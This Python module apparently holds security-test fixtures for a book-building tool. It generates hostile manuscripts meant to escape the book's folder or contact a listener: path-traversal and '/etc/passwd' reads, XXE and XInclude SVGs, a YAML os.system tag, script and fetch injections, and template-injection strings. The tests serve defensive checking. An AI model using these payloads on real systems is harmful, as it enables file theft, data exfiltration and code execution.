"""Ways out of the book: each a book that asks for something outside it, by content that a stranger could send."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from walls.room import CHAPTER, EDITION, HEAD, OUTPUTS, chapter, figure, lay
from walls.witness import keep_secrets

_SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    ' xmlns:xi="http://www.w3.org/2001/XInclude" width="40mm" height="40mm" viewBox="0 0 40 40"{root}>'
    '{body}<rect width="9" height="9" style="{style}" fill="{fill}"/></svg>'
)


@dataclass(frozen=True, slots=True)
class Vector:
    """A way out: files of the book by their paths (`{outside}` and `{call}` stand for addresses), and links in it.

    `links` lead from a path in the book to a name in the folder of secrets.
    """

    name: str
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)


def set_out(vector: Vector, root: Path, secrets: Path, call: str) -> Path:
    """The book of a vector in `root`; its secrets lie in a folder beside it, `call` is the address of the listener."""
    keep_secrets(secrets)
    files = {
        name: text.replace("{outside}", str(secrets)).replace("{call}", call)
        for name, text in vector.files.items()
    }
    lay(root, files)
    for name, target in vector.links.items():
        link = root / name
        if link.exists() or link.is_symlink():
            link.unlink()
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(secrets / target)
    return root


def vectors() -> Iterator[Vector]:
    """All of them."""
    yield from _sources()
    yield from _drawings()
    yield from _settings()
    yield from _links()
    yield from _words()


def _sources() -> Iterator[Vector]:
    sources = {
        "an absolute path": "{outside}/secret.svg",
        "a path upwards": "../../secrets/secret.svg",
        "a path down and upwards": "figures/../../../secrets/secret.svg",
        "dots in per cents": "figures/%2e%2e/%2e%2e/%2e%2e/secrets/secret.svg",
        "a file address": "file://{outside}/secret.svg",
        "a file address with dots": "file:../../secrets/secret.svg",
        "a file address with dots in per cents": "file://{outside}/x/%2e%2e/secret.svg",
        "a home folder": "~/secret.svg",
        "backslashes": "..\\\\..\\\\secrets\\\\secret.svg",
        "a null": "figures/leaf.svg%00../../../secrets/secret.svg",
        "a network address": "{call}/secret.svg",
        "a network address without its scheme": "//{call}/secret.svg",
        "a data address with a drawing": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>",
        "a data address with a page": "data:text/html,<script>alert(1)</script>",
        "a data address with text": "data:text/plain,secret",
        "a jar": "jar:file://{outside}/secret.svg!/x",
        "a device": "/dev/zero",
    }
    for name, source in sources.items():
        yield Vector(f"figure: {name}", {CHAPTER: figure(source)})
        yield Vector(f"logo: {name}", {EDITION: f"logo: '{source}'\n{OUTPUTS}"})
    for suffix in ("svg", "png"):
        source = f"figures/secret.{suffix}"
        yield Vector(
            f"figure: a link to a file ({suffix})",
            {CHAPTER: figure(source)},
            {f"book/{source}": f"secret.{suffix}"},
        )
    yield Vector("figure: a link to a folder", {CHAPTER: figure("out/secret.svg")}, {"book/out": "."})
    yield Vector("logo: a link", {EDITION: f"logo: logo.svg\n{OUTPUTS}"}, {"book/logo.svg": "secret.svg"})


def _drawings() -> Iterator[Vector]:
    parts: dict[str, dict[str, str]] = {
        "@import": {"body": "<style>@import url({call}/x.css);</style>"},
        "@import without url": {"body": "<style>@import '{outside}/secret.css';</style>"},
        "@font-face": {"body": "<style>@font-face {{ font-family: X; src: url({call}/x.ttf) }}</style>"},
        "url in styles": {"body": "<style>rect {{ fill: url({outside}/secret.svg#f) }}</style>"},
        "an escaped url": {"body": "<style>rect {{ fill: \\75rl({outside}/secret.svg#f) }}</style>"},
        "a style attribute": {"style": "fill: url('{call}/x.svg#f')"},
        "a fill": {"fill": "url({call}/x.svg#f)"},
        "image": {"body": '<image width="9" height="9" href="{outside}/secret.png"/>'},
        "image by xlink": {"body": '<image width="9" height="9" xlink:href="file://{outside}/secret.png"/>'},
        "image in the network": {"body": '<image width="9" height="9" href="{call}/x.png"/>'},
        "image in a data address": {
            "body": '<image width="9" height="9" href="data:image/svg+xml,&lt;svg/&gt;"/>'
        },
        "use": {"body": '<use href="{outside}/secret.svg#f"/>'},
        "feImage": {"body": '<filter id="i"><feImage href="{outside}/secret.png"/></filter>'},
        "pattern": {"body": '<pattern id="p" href="{outside}/secret.svg#f"/>'},
        "textPath": {"body": '<text><textPath href="{call}/x.svg#f">x</textPath></text>'},
        "xml:base": {"root": ' xml:base="file://{outside}/"', "body": '<use href="#f"/>'},
        "XInclude": {"body": '<xi:include href="{outside}/secret.md" parse="text"/>'},
        "a script": {"body": '<script href="{call}/x.js"/>'},
        "a link": {"body": '<a href="file://{outside}/secret.svg"><rect width="9" height="9"/></a>'},
        "a page inside": {
            "body": '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'
        },
        "a handler": {"root": ' onload="fetch(1)"'},
    }
    for name, part in parts.items():
        yield _drawing(name, _SVG.format(**{"root": "", "body": "", "style": "", "fill": "#161616", **part}))
    plain = _SVG.format(root="", body="<text>&s;</text>", style="", fill="#161616")
    yield _drawing("an entity", f'<!DOCTYPE svg [<!ENTITY s SYSTEM "{{outside}}/secret.md">]>{plain}')
    outer = plain.replace("&s;", "x")
    yield _drawing("a document type", f'<!DOCTYPE svg SYSTEM "{{call}}/x.dtd">{outer}')
    yield _drawing("a stylesheet", f'<?xml-stylesheet href="{{outside}}/secret.css"?>{outer}')


def _drawing(name: str, text: str) -> Vector:
    return Vector(f"drawing: {name}", {CHAPTER: figure("figures/own.svg"), "book/figures/own.svg": text})


def _settings() -> Iterator[Vector]:
    book = (
        "slug: small\ntitle: A small book\nauthors: [Somebody]\nlanguage: en-GB\n"
        'licence: {name: CC BY-SA 4.0, url: "https://creativecommons.org/licenses/by-sa/4.0/"}\n'
        "date: 2026-01-01\nback: [back/glossary.md, back/sources.md]\n"
    )
    paths = {
        "upwards": "../../secrets/secret.md",
        "absolute": "{outside}/secret.md",
        "the machine's": "../../../../../../etc/passwd",
        "a file address": "file://{outside}/secret.md",
    }
    for name, path in paths.items():
        yield Vector(f"chapter: {name}", {"book/book.yaml": f"{book}chapters: ['{path}']\n"})
        yield Vector(f"welcome: {name}", {EDITION: f"welcome: '{path}'\n{OUTPUTS}"})
        yield Vector(f"chosen chapter: {name}", {EDITION: f"chapters: ['{path}']\n{OUTPUTS}"})
        yield Vector(f"slug: {name}", {"book/book.yaml": book.replace("small\n", f"'{path}'\n", 1)})
    for name in (
        "chapters/01-one.md",
        "book.yaml",
        "glossary.yaml",
        "references.yaml",
        "editions/standard.yaml",
    ):
        yield Vector(f"a link for {name}", links={f"book/{name}": f"secret{Path(name).suffix}"})
    for name in ("questionnaires/tea.yaml", "journal/lined.yaml", "questionnaires/new.yaml", "front/new.md"):
        yield Vector(f"a link for {name}", links={f"book/{name}": f"secret{Path(name).suffix}"})
    for tag in ("!!python/object/apply:os.system ['id']", "!include {outside}/secret.yaml", "!!binary x"):
        yield Vector(f"tag: {tag.split()[0]}", {"book/book.yaml": f"{book}subtitle: {tag}\n"})
    own = "---\ntitle: Welcome\n---\n## Welcome {#hello}\n\n"
    for name, source in (("upwards", "../../secrets/secret.svg"), ("a drawing", "figures/own.svg")):
        yield Vector(
            f"figure of a welcome: {name}",
            {
                EDITION: f"welcome: front/hello.md\n{OUTPUTS}",
                "book/front/hello.md": f'{own}::: figure {{src="{source}" alt="x"}}\nx\n:::\n',
                "book/figures/own.svg": _SVG.format(root="", body="<script/>", style="", fill="none"),
            },
        )


def _links() -> Iterator[Vector]:
    addresses = (
        "file://{outside}/secret.md",
        "javascript:alert(1)",
        "data:text/html,x",
        "../secret.md",
        "//x.y/z",
    )
    for address in addresses:
        yield Vector(f"link: {address}", {CHAPTER: chapter(f"See [this]({address}).\n")})
    for html in (
        '<link rel="attachment" href="file://{outside}/secret.md">',
        '<img src="{outside}/secret.png">',
        '<iframe src="{call}"></iframe>',
        "<style>@import url({call});</style>",
        '<object data="{outside}/secret.svg"></object>',
        '<base href="{call}">',
        '<meta http-equiv="refresh" content="0; url={call}">',
        "<script>fetch('{call}')</script>",
    ):
        yield Vector(f"markup: {html.split()[0]}", {CHAPTER: chapter(f"{html}\n")})
    yield Vector("a picture in the text", {CHAPTER: chapter("![x]({outside}/secret.png)\n")})


def _words() -> Iterator[Vector]:
    for words in ("{0.__class__}", "{title.__class__.__mro__}", "{0!r:>999999999}"):
        yield Vector(f"wording: {words}", {EDITION: f"wording: {{figure: '{words}'}}\n{OUTPUTS}"})


_WORK = (
    "{key}: {{type: webpage, title: Leaves, author: [{{family: Smith}}], issued: 2001, "
    "URL: '{url}', DOI: '{url}'}}\n"
)
_ODD = ("file:///etc/passwd", "javascript:alert(1)", "data:text/html,x", "../secret.md", "//x.y/z")
HARMLESS: dict[str, str] = {
    CHAPTER: chapter(
        '\\<script>alert(1)\\</script> `<script>alert(1)</script>` &lt;img onerror=x&gt; " onload="x\n\n'
        '::: figure {src="figures/q\'d & #1.svg" alt="<b onclick=x>"}\nA caption.\n:::\n\n'
        '::: figure {src="figures/a/b.svg" alt="One."}\nA caption.\n:::\n\n'
        '::: figure {src="figures/a-b.svg" alt="Two."}\nA caption.\n:::\n\n'
        "See [there](https://example.org/?a=1&b=<c>).\n"
    ),
    "book/references.yaml": "".join(
        _WORK.format(key=key, url=url)
        for key, url in zip(("smith2001", "b", "c", "d", "e"), _ODD, strict=True)
    ),
    "book/figures/q'd & #1.svg": _SVG.format(
        root="", body="<style>rect {{ fill: red }}</style>", style="", fill="#161616"
    ),
    "book/figures/a/b.svg": _SVG.format(root="", body="<style>/* one */</style>", style="", fill="#161616"),
    "book/figures/a-b.svg": _SVG.format(root="", body="<style>/* two */</style>", style="", fill="#161616"),
}
"""Strange things that a reader of manuscripts may let through: in the outputs they are words, and do nothing."""


TEMPLATE = "{{ 7 * 191 }} {% include '/etc/passwd' %} {# gone #} ${7 * 191} <%= 7 * 191 %> {0.__class__}"
"""Words that some program might take for an order; ours prints them as they are."""


def template_book() -> dict[str, str]:
    """A book that has such words wherever an author may write words."""
    quoted = f'"{TEMPLATE}"'
    head = HEAD.replace("What is one?", quoted)
    return {
        CHAPTER: head + chapter(f"Words: {TEMPLATE} `{TEMPLATE}`\n").removeprefix(HEAD),
        EDITION: f"title: {quoted}\norganisation: {quoted}\nfacilitator: {quoted}\n{OUTPUTS}",
        "book/glossary.yaml": f"- term: Tea\n  definition: {quoted}\n",
    }


def page_vectors() -> tuple[str, ...]:
    """Ways out that stand in a page itself, as if a template had let them through; `{inside}` is the book."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
    return (
        '<img alt="x" src="{outside}/secret.png">',
        '<img alt="x" src="{inside}/../secrets/secret.png">',
        '<img alt="x" src="{inside}/%2e%2e/secrets/secret.png">',
        '<img alt="x" src="{inside}/link.png">',
        '<img alt="x" src="{call}/x.png">',
        '<img alt="x" src="{inside}/none.png">',
        '<img alt="x" srcset="{call}/x.png 2x" src="{call}/y.png">',
        '<link rel="attachment" href="{outside}/secret.md"><p>x',
        '<p><a rel="attachment" href="{outside}/secret.md">x</a>',
        '<link rel="stylesheet" href="{outside}/secret.css"><p>x',
        '<link rel="stylesheet" href="{call}/x.css"><p>x',
        "<style>@import url({outside}/secret.css);</style><p>x",
        "<style>@font-face { font-family: X; src: url({call}/x.ttf) } p { font-family: X }</style><p>x",
        "<style>p { background: url({outside}/secret.png) }</style><p>x",
        "<style>p::before { content: url({outside}/secret.svg) }</style><p>x",
        "<style>li { list-style-image: url({outside}/secret.svg) }</style><ul><li>x</ul>",
        '<p style="border-image: url({outside}/secret.png) 1; border: 1px solid">x',
        '<object data="{outside}/secret.svg"></object>',
        '<embed src="{outside}/secret.svg">',
        '<base href="{outside}/"><img alt="x" src="secret.png">',
        svg.format('<image width="9" height="9" href="{outside}/secret.png"/>'),
        svg.format('<image width="9" height="9" xlink:href="{call}/x.png"/>'),
        svg.format('<use href="{outside}/secret.svg#f"/>'),
        svg.format('<style>@import url({outside}/secret.css);</style><rect width="9" height="9"/>'),
        '<img alt="x" src="data:text/html,&lt;p&gt;">',
    )
